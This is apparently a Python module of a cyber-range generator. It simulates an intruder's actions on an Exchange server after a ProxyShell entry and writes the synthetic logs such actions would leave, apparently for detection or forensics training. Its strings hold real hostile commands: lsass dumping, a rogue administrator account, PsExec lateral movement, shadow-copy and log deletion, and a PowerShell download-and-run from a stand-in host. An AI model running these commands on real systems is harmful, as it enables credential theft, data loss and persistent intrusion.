"""What follows an entry: other doors, and what was done on the server.

Most stories act through the page that the story before them planted.
"""

from __future__ import annotations

from afterpatch.range import server, windows
from afterpatch.range.draw import below, digits, letters
from afterpatch.range.stage import (
    ASPNET_CLIENT,
    DAY,
    MARKER,
    MINUTE,
    REPLICATION,
    SECOND,
    Page,
    Stage,
    mail_store,
)
from afterpatch.range.web import Request

_SYSTEM32 = "C:\\Windows\\System32"
_POOL = "MSExchangeOWAAppPool"


def _page(stage: Stage) -> Page:
    """The page to act through; the first one planted."""
    return stage.pages[0]


def _fetch(stage: Stage, name: str, size: int) -> None:
    """A staged file below the web site is downloaded, and the log tells its bytes."""
    request = Request(
        protocol="",
        method="GET",
        stem=f"/aspnet_client/{name}",
        agent=_page(stage).agent,
        address=stage.address,
        host=server.PUBLIC_ADDRESS,
    )
    stage.ask(request, f"downloads {name}, {size} bytes", took=9_400, got=size)


# ------------------------------------------------------------------ doors


def hidden_directory(stage: Stage) -> None:
    """A virtual directory of OWA is served from a folder outside the web sites."""
    name = f"{letters(stage.rng, 6).lower()}.aspx"
    folder, place = "C:\\ProgramData\\ZING", "/owa/auth/Current/scripts"
    stage.directories.append((place, folder, _POOL))
    page = stage.plant(f"{folder}\\{name}", f"{place}/{name}", mail_store(stage.rng, MARKER))
    stage.lay([windows.file_created(REPLICATION, 7120, page.path)], "an export writes the page")
    stage.wait(MINUTE)
    stage.visit(page, "cmd /c hostname")
    stage.visit(page)
    stage.visit(page)
    # The entry itself is not seen, but only an export writes so, and only this chain exports so.
    stage.chain("ProxyShell", "exploited", ("CVE-2021-31207",))
    stage.backdoor("virtual directory", place, path=folder, url=place, state="file", stands="yes")


def iis_module(stage: Stage) -> None:
    """A native module with a name like a stock one is installed into every site."""
    name, image = "HttpLogingModule", "C:\\Windows\\Temp\\loghttps.dll"
    page = _page(stage)
    stage.visit(
        page, f"cmd /c {_SYSTEM32}\\inetsrv\\appcmd.exe install module /name:{name} /image:{image}"
    )
    left = [
        windows.file_created(windows.W3WP, 10844, image),
        windows.configuration_changed(
            f'/system.webServer/globalModules/add[@name="{name}"]/@image', image
        ),
    ]
    stage.lay(left, "the module is installed")
    stage.files[image] = b"afterpatch range: placeholder for a module\r\n"
    stage.modules.append((name, image))
    stage.backdoor("IIS module", name, path=image, state="file", stands="yes")
    stage.impact("persistence", "T1505.004")


def transport_agent(stage: Stage) -> None:
    """An agent that sees every mail is installed into the transport service."""
    name = "Content Conversion Agent"
    assembly = "C:\\ProgramData\\Microsoft\\Exchange\\ContentConversion.dll"
    factory = "ContentConversion.ConversionAgentFactory"
    user = stage.mail.users[0]
    stage.lay([windows.file_created(windows.W3WP, 10844, assembly)], "the agent's library")
    stage.cmdlet(
        user, "Install-TransportAgent", f'-Name "{name}" -TransportAgentFactory "{factory}" '
        f'-AssemblyPath "{assembly}"', "installs a transport agent",
    )  # fmt: skip
    stage.cmdlet(user, "Enable-TransportAgent", f'-Identity "{name}"', "enables it")
    stage.files[assembly] = b"afterpatch range: placeholder for an agent\r\n"
    stage.agents.append((name, factory, assembly))
    stage.backdoor("transport agent", name, path=assembly, state="file", stands="yes")


def remote_tool(stage: Stage) -> None:
    """A remote-control program is put on the server as a service."""
    image = "C:\\ProgramData\\AnyDesk\\AnyDesk.exe"
    install = f"cmd /c {image} --install C:\\ProgramData\\AnyDesk --start-with-win --silent"
    stage.lay([windows.file_created(windows.W3WP, 15756, image)], "a remote tool is dropped")
    stage.command(install, "MSExchangePowerShellAppPool", actor="", image=image)
    service = windows.service_installed("AnyDesk Service", f'"{image}" --service')
    stage.lay([service], "the remote tool runs as a service")
    stage.backdoor("remote tool", "AnyDesk Service", path=image)
    stage.impact("command and control", "T1219")


def accounts(stage: Stage) -> None:
    """A local account is made through the page and put among the administrators."""
    name = "svc_health"
    page = _page(stage)
    stage.visit(page, f"cmd /c net user {name} P{digits(stage.rng, 10)}! /add")
    created, sid = windows.account_created(stage.rng, name)
    stage.lay([created], "a local account is made")
    stage.visit(page, f"cmd /c net localgroup Administrators {name} /add")
    added = windows.member_added("Administrators", "S-1-5-32-544", sid)
    stage.lay([added], "it becomes an administrator")
    stage.backdoor("account", name)
    stage.impact("persistence", "T1136.001")


# ------------------------------------------------------------------ deeds


def credential_dump(stage: Stage) -> None:
    """The memory that keeps credentials is dumped into the web site, packed and downloaded."""
    page = _page(stage)
    dump, archive = f"{ASPNET_CLIENT}\\lsass.dmp", f"{ASPNET_CLIENT}\\it.zip"
    dumper = f"{_SYSTEM32}\\rundll32.exe"
    stage.visit(page, f"cmd /c rundll32.exe {_SYSTEM32}\\comsvcs.dll, MiniDump 652 {dump} full")
    left = [windows.lsass_opened(dumper, 5120), windows.file_created(dumper, 5120, dump)]
    stage.lay(left, "the memory of lsass is written to a file")
    stage.wait(MINUTE)
    stage.visit(
        page,
        "cmd /c C:\\Windows\\Temp\\procdump64.exe -accepteula -ma lsass.exe "
        "C:\\Windows\\Temp\\lsass.dmp",
    )
    stage.wait(MINUTE)
    stage.visit(page, f"cmd /c C:\\ProgramData\\7z.exe a -tzip {archive} {dump}")
    packer = "C:\\ProgramData\\7z.exe"
    stage.lay([windows.file_created(packer, 6240, archive)], "the dump is packed")
    stage.wait(2 * MINUTE)
    size = 31_457_280 + below(stage.rng, 1 << 20)
    _fetch(stage, "it.zip", size)
    stage.impact("credential dump", "T1003.001")
    stage.impact("staging", "T1560.001")
    stage.impact("exfiltration", "T1567", size, "bytes")


def mailbox_export(stage: Stage) -> None:
    """Whole mailboxes are exported to a folder of the server, packed and downloaded."""
    user = stage.mail.users[7]
    victims = stage.mail.users[20:25]
    for victim in victims:
        stage.cmdlet(
            user, "New-MailboxExportRequest",
            f'-Mailbox "{victim.mail}" -FilePath "\\\\127.0.0.1\\C$\\ProgramData\\pst\\'
            f'{victim.name}.pst"', f"exports the mailbox of {victim.name}",
        )  # fmt: skip
        path = f"C:\\ProgramData\\pst\\{victim.name}.pst"
        stage.lay([windows.file_created(REPLICATION, 7120, path)], "the export writes a store")
        stage.wait(4 * MINUTE)
    page = _page(stage)
    archive = f"{ASPNET_CLIENT}\\log.gif"
    stage.visit(
        page,
        f"cmd /c C:\\ProgramData\\7z.exe a -t7z -p{digits(stage.rng, 8)} {archive} "
        "C:\\ProgramData\\pst",
    )
    stage.lay([windows.file_created("C:\\ProgramData\\7z.exe", 6240, archive)], "stores packed")
    stage.wait(5 * MINUTE)
    size = 182_000_000 + below(stage.rng, 1 << 22)
    _fetch(stage, "log.gif", size)
    stage.impact("mailbox export", "T1114.002", len(victims), "mailboxes")
    stage.impact("staging", "T1560.001")
    stage.impact("exfiltration", "T1567", size, "bytes")


def lateral_movement(stage: Stage) -> None:
    """From the Exchange server to a file server and the domain controller."""
    page = _page(stage)
    stage.visit(page, 'cmd /c net group "Exchange Trusted Subsystem" /domain')
    tool = "C:\\Windows\\Temp\\PsExec64.exe"
    stage.lay([windows.file_created(windows.W3WP, 10844, tool)], "PsExec is dropped")
    for target, address in (
        (f"fs01.{server.DNS_DOMAIN}", "10.0.20.31"),
        (server.CONTROLLER, "10.0.20.5"),
    ):
        stage.visit(page, f"cmd /c {tool} -accepteula \\\\{target} -s cmd /c whoami")
        left = [
            windows.explicit_logon("backup-svc", target, tool),
            windows.connected(tool, 6612, address, 445),
        ]
        stage.lay(left, f"signs in to {target} with another's credentials")
        stage.wait(MINUTE)
    stage.visit(page, 'cmd /c wmic /node:10.0.20.31 process call create "cmd /c ipconfig"')
    stage.impact("lateral movement", "T1021.002")


def ransomware(stage: Stage) -> None:
    """As DearCry did: a service of its own, shadow copies gone, files renamed, notes left."""
    page = _page(stage)
    image = "C:\\Windows\\Temp\\msupdate.exe"
    stage.lay([windows.file_created(windows.W3WP, 10844, image)], "the program is dropped")
    for command in (
        "cmd /c vssadmin.exe delete shadows /all /quiet",
        "cmd /c bcdedit /set {default} recoveryenabled no",
        "cmd /c wbadmin delete catalog -quiet",
        "cmd /c net stop MSExchangeIS",
    ):
        stage.visit(page, command)
    left = [
        windows.service_installed("msupdate", image),
        windows.service_state("Microsoft Exchange Information Store", "stopped"),
    ]
    stage.lay(left, "the service of the program is installed")
    stage.wait(30 * SECOND)
    for number in range(24):
        folder = f"D:\\Shares\\Projects\\{2010 + number % 6}"
        name = f"{folder}\\{letters(stage.rng, 7).lower()}.docx"
        stage.lay([windows.file_created(image, 7788, f"{name}.CRYPT")], "a file is encrypted")
        if number % 6 == 0:
            note = f"{folder}\\readme.txt"
            stage.lay([windows.file_created(image, 7788, note)], "a ransom note is left")
    stage.backdoor("service", "msupdate", path=image)
    stage.impact("ransomware", "T1486")
    stage.impact("ransomware", "T1490")


def miner(stage: Stage) -> None:
    """A task fetches a script every hour; a miner runs from ProgramData."""
    page = _page(stage)
    url = "http://t.example.net/a.jsp"
    arguments = (
        f"-w hidden -ep bypass -c IEX(New-Object Net.WebClient).DownloadString('{url}?mail')"
    )
    powershell = f"{_SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
    stage.visit(
        page,
        "cmd /c schtasks /create /ru system /sc MINUTE /mo 60 /tn blackball /f /tr "
        f'"powershell {arguments}"',
    )
    stage.lay(
        windows.task("\\blackball", "powershell", arguments.replace("'", "&apos;")),
        "a task is registered",
    )
    stage.lay([windows.script(arguments.partition("-c ")[2])], "the task's script runs")
    folder = "C:\\ProgramData\\xmrig"
    image = f"{folder}\\xmrig.exe"
    pid = 4000 + 4 * below(stage.rng, 5000)
    left = [
        windows.file_created(powershell, pid, image),
        windows.file_created(powershell, pid, f"{folder}\\config.json"),
        windows.file_created(image, pid + 4, f"{folder}\\WinRing0x64.sys"),
        windows.driver_loaded(f"{folder}\\WinRing0x64.sys"),
        *windows.process(
            stage.rng, image, f"{image} -o stratum+tcp://pool.example.net:3333 --donate-level=1 "
            f"-u {letters(stage.rng, 40)} -k", powershell, f"powershell {arguments}", pid + 4, pid,
        ),
        windows.connected(image, pid + 4, "192.0.2.250", 3333),
    ]  # fmt: skip
    stage.lay(left, "a miner runs")
    stage.impact("miner", "T1496")
    stage.backdoor("scheduled task", "\\blackball")


def log_tampering(stage: Stage) -> None:
    """Event logs are cleared and the web logs of the days before are deleted."""
    page = _page(stage)
    for channel in ("Security", "System"):
        stage.visit(page, f"cmd /c wevtutil cl {channel}")
        stage.lay([windows.log_cleared(channel)], f"the {channel} log is cleared")
    # All but today's file, which the web server holds open.
    stage.erased |= {("W3SVC1", day) for day in range(stage.clock // DAY)}
    stage.visit(page, "cmd /c del /f /q C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex*.log")
    stage.impact("log tampering", "T1070.001")


# ------------------------------------------------------------------ who cleans up


def responder(stage: Stage) -> None:
    """Somebody who is no intruder removes the page through the page itself; antivirus helps."""
    page = _page(stage)
    address = stage.mail.responder
    # When the intruders have been for the last time.
    stage.clock = max(happening.at for happening in stage.done) + 30 * MINUTE
    stage.truth.classes[address] = "responder"
    stage.visit(page, f'cmd /c del /f "{page.path}"', address=address)
    stage.lay(
        [windows.file_deleted(windows.CMD, 8120, page.path)], "the page is removed through itself",
        kind="response", actor=address,
    )  # fmt: skip
    page.stands = False
    library = next(path for path in stage.files if path.endswith(".dll") and "App_Web_" in path)
    threats = [
        windows.threat("Backdoor:ASP/Chopper.F!dha", library, windows.W3WP, number)
        for number in (1116, 1117)
    ]
    stage.lay(threats, "antivirus takes away what was compiled of it", kind="response", actor="")
    del stage.files[library], stage.files[page.path]
    stage.wait(SECOND)
